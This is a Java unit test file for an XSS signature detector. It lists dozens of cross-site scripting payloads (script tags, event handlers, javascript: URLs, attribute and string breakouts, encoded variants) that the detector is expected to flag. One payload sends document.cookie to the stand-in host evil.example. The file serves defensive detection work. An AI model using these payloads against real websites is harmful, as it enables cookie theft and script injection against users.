package io.periscope.detection.signature.xss;

import static org.assertj.core.api.Assertions.assertThat;

import io.periscope.detection.decode.Decoder;
import io.periscope.detection.signature.AttackClass;
import io.periscope.detection.signature.InputLocation;
import io.periscope.detection.signature.LocationKind;
import io.periscope.detection.signature.Match;
import java.time.Duration;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class XssDetectorTest {

    private static final InputLocation Q = new InputLocation(LocationKind.QUERY_VALUE, "q");
    private final XssDetector detector = new XssDetector();

    /** The most confident match over the value's decoded forms, as the signature pass picks it. */
    private Optional<Match> inspect(String value) {
        return detector.inspectForms(Decoder.variants(value), Q, null);
    }

    private String rule(String value) {
        return inspect(value).map(Match::rule).orElse("none");
    }

    @Test
    void reportsTheXssClass() {
        assertThat(detector.attackClass()).isEqualTo(AttackClass.XSS);
    }

    @Test
    void scriptTagsAreDetectedInAnyCase() {
        assertThat(rule("<script>alert(1)</script>")).isEqualTo("xss.script-tag");
        assertThat(rule("<ScRiPt SRC=//evil.example/x.js></sCrIpT>")).isEqualTo("xss.script-tag");
    }

    @Test
    void eventHandlersOnAnyTagAreDetected() {
        assertThat(rule("<img src=x onerror=alert(1)>")).isEqualTo("xss.event-handler");
        assertThat(rule("<svg/onload=alert(1)>")).isEqualTo("xss.event-handler");
        assertThat(rule("<custom-element onpointerrawupdate=prompt`1`>")).isEqualTo("xss.event-handler");
    }

    @Test
    void unclosedTagsStillCountBecauseThePageClosesThem() {
        assertThat(rule("<img src=x onerror=alert(1)//")).isEqualTo("xss.event-handler");
    }

    @Test
    void scriptUrlsInUrlAttributesAreDetectedThroughTabsAndEntities() {
        assertThat(rule("<a href=\"javascript:alert(1)\">x</a>")).isEqualTo("xss.script-url");
        assertThat(rule("<a href=\"jav&#x09;ascript:alert(1)\">x</a>")).isEqualTo("xss.script-url");
        assertThat(rule("<iframe src=\"data:text/html,<script>alert(1)</script>\">")).isIn("xss.script-url",
                "xss.active-element");
    }

    @Test
    void aWholeValueThatIsAScriptUrlIsDetected() {
        assertThat(rule("javascript:alert(document.domain)")).isEqualTo("xss.script-url");
        assertThat(rule("  JaVaScRiPt:alert(1)")).isEqualTo("xss.script-url");
    }

    @Test
    void cssExpressionsAreDetectedThroughCommentsAndEscapes() {
        assertThat(rule("<div style=\"width: expression(alert(1))\">")).isEqualTo("xss.css-expression");
        assertThat(rule("<div style=\"x:exp/**/ression(alert(1))\">")).isEqualTo("xss.css-expression");
        assertThat(rule("<div style=\"x:\\65xpression(alert(1))\">")).isEqualTo("xss.css-expression");
    }

    @Test
    void iframeSrcdocAndActiveElementsAreDetected() {
        assertThat(rule("<iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\">")).isIn("xss.srcdoc",
                "xss.event-handler", "xss.active-element");
        assertThat(rule("<object data=\"x.swf\">")).isEqualTo("xss.active-element");
        assertThat(rule("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">"))
                .isEqualTo("xss.active-element");
    }

    @Test
    void breakingOutOfAQuotedAttributeWithAHandlerIsDetected() {
        assertThat(rule("\" onmouseover=\"alert(1)")).isEqualTo("xss.attribute-breakout");
        assertThat(rule("' autofocus onfocus=alert(1) x='")).isEqualTo("xss.attribute-breakout");
    }

    @Test
    void breakingOutOfAnAttributeIntoATagIsDetected() {
        assertThat(rule("\"><svg onload=alert(1)>")).isEqualTo("xss.event-handler");
    }

    @Test
    void breakingOutOfAJavaScriptStringIsDetected() {
        assertThat(rule("';alert(1)//")).isEqualTo("xss.js-breakout");
        assertThat(rule("\"-prompt(1)-\"")).isEqualTo("xss.js-breakout");
        assertThat(rule("\\';alert(String.fromCharCode(88,83,83))//")).isEqualTo("xss.js-breakout");
    }

    @Test
    void markupInsideStyleIsScannedForMutationXss() {
        assertThat(rule("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"))
                .isEqualTo("xss.event-handler");
    }

    @Test
    void nestedTagSplittingStillLeavesAScriptTag() {
        assertThat(rule("<scr<script>ipt>alert(1)</scr</script>ipt>")).isEqualTo("xss.script-tag");
    }

    @Test
    void aLinkCarryingAScriptPayloadIsDetected() {
        assertThat(rule("<a href=\"page?q=<script>alert(1)</script>\">x</a>")).isEqualTo("xss.markup-in-attribute");
    }

    @Test
    void usAsciiHighBitMarkupIsDetected() {
        assertThat(rule("\u00BCscript\u00BEalert(\u00A2XSS\u00A2)\u00BC/script\u00BE")).isEqualTo("xss.us-ascii-markup");
    }

    @Test
    void closingTheScriptElementIsDetected() {
        assertThat(rule("</script><script>alert(1)</script>")).isEqualTo("xss.script-tag");
    }

    @Test
    void templateLiteralInjectionIsDetected() {
        assertThat(rule("${alert(1)}")).isEqualTo("xss.template-literal");
    }

    @Test
    void writesToTheLocationAfterABreakoutAreDetected() {
        assertThat(rule("';document.location='https://evil.example/?c='+document.cookie;//"))
                .isEqualTo("xss.js-dom-write");
    }

    @Test
    void bareJavaScriptCallingASinkIsDetected() {
        assertThat(rule("alert`1`")).isEqualTo("xss.js-sink-call");
        assertThat(rule("(alert)(1)")).isEqualTo("xss.js-sink-call");
        assertThat(rule("[1].find(alert)")).isEqualTo("xss.js-sink-call");
    }

    @Test
    void percentAndEntityEncodedPayloadsAreDetectedAfterDecoding() {
        assertThat(rule("%253Cscript%253Ealert(1)%253C%252Fscript%253E")).isEqualTo("xss.script-tag");
        assertThat(rule("&lt;img src=x onerror=alert(1)&gt;")).isEqualTo("xss.event-handler");
        assertThat(rule("\\u003csvg onload=alert(1)\\u003e")).isEqualTo("xss.event-handler");
    }

    @ParameterizedTest
    @ValueSource(strings = {"<b>Great product</b>", "<p>Fits well, <em>true</em> to size.</p>",
        "<a href=\"https://example.com/product/42\">see product</a>", "I <3 this", "a<b", "Price < 100 and rating > 4",
        "alert(1) meaning", "onload event handler explained", "javascript: the good parts", "script tag reference",
        "Tom & Jerry", "x = y + 1", "it's 5 o'clock", "status online=yes", "{\"html\":\"<b>bold</b>\"}",
        "https://example.com/search?q=shoes&size=42", "<ul><li>Cotton</li><li>Machine wash</li></ul>",
        "Call confirm (yes) to continue", "print this page", "javascript:void(0)", "print(\"hello\")",
        "location=london", "top of the page", "document.pdf"})
    void ordinaryTextAndFormattingAreNotXss(String value) {
        assertThat(inspect(value)).isEmpty();
    }

    @Test
    @Timeout(10)
    void hostileValuesAreJudgedInBoundedTime() {
        String[] hostile = {"<".repeat(100 * 1024), "<a ".repeat(34 * 1024), "<style>".repeat(14 * 1024),
            "<script>".repeat(12 * 1024), "\"".repeat(100 * 1024), "alert(".repeat(17 * 1024),
            "<a b=\"".repeat(16 * 1024), "script".repeat(17 * 1024), "${".repeat(50 * 1024),
            "document.".repeat(11 * 1024), "<x " + "a=1 ".repeat(25 * 1024) + ">"};
        long start = System.nanoTime();
        for (String value : hostile) {
            for (String form : Decoder.variants(value)) {
                detector.inspect(form, Q);
            }
        }
        assertThat(Duration.ofNanos(System.nanoTime() - start)).isLessThan(Duration.ofSeconds(3));
    }
}
